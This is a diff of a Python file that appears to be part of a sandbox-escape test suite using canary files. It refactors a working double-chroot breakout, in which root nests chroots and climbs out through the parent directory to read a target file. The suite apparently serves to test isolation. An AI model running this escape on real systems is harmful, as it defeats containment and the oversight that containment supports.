@@ -4,7 +4,7 @@ import ctypes
 import os
 import sys
 
-from escape_kit import StoppedError, Targets, any_of, attempt, call, find_canary, in_child, read_canary
+from escape_kit import StoppedError, Targets, any_of, attempt, call, find_canary, forked, read_canary
 
 
 @attempt()
@@ -100,23 +100,20 @@ def file_by_handle(targets: Targets) -> str:
 
 
 @attempt()
+@forked
 def file_by_chroot(targets: Targets) -> str:
     """Leave the root folder by a second chroot, as root can."""
-
-    def climb() -> str:
-        os.makedirs("cell/inner", exist_ok=True)
-        try:
-            call("chroot", b"cell")
-            os.chdir("/")
-            call("chroot", b"inner")  # the working directory is above the root now
-            for _ in range(40):
-                os.chdir("..")
-            call("chroot", b".")
-            return read_canary(targets["file"])
-        finally:
-            os.chdir("/")
-
-    return in_child(climb)
+    os.makedirs("cell/inner", exist_ok=True)
+    try:
+        call("chroot", b"cell")
+        os.chdir("/")
+        call("chroot", b"inner")  # the working directory is above the root now
+        for _ in range(40):
+            os.chdir("..")
+        call("chroot", b".")
+        return read_canary(targets["file"])
+    finally:
+        os.chdir("/")
 
 
 @attempt()
